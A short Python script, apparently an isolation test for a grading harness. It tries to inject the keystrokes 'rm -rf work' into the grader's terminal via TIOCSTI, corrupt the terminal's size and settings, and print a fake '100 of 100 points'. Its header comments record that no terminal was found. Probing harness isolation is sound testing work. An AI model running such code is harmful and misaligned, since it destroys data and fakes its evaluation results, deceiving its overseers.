# Tries: to type into the grader's terminal, write to it and change its settings.
# Seen: there is no terminal.
# Against: inherited; judged: terminal
import fcntl
import os
import signal
import struct
import termios

for number in (signal.SIGTTOU, signal.SIGTTIN):
    signal.signal(number, signal.SIG_IGN)
try:
    tty = os.open("/dev/tty", os.O_RDWR | os.O_NONBLOCK)
except OSError as error:
    print(error)
    tty = 2
for number in (tty, 0, 1, 2):
    for change in (
        lambda fd: [fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte])) for byte in b"rm -rf work\n"],
        lambda fd: fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 1, 1, 0, 0)),
        lambda fd: termios.tcsetattr(fd, termios.TCSANOW, [0] * 6 + [[b"\0"] * 32]),
    ):
        try:
            change(number)
            print("changed", number)
        except (OSError, termios.error) as error:
            print(error)
if tty != 2:
    os.write(tty, b"\033[2J100 of 100 points")
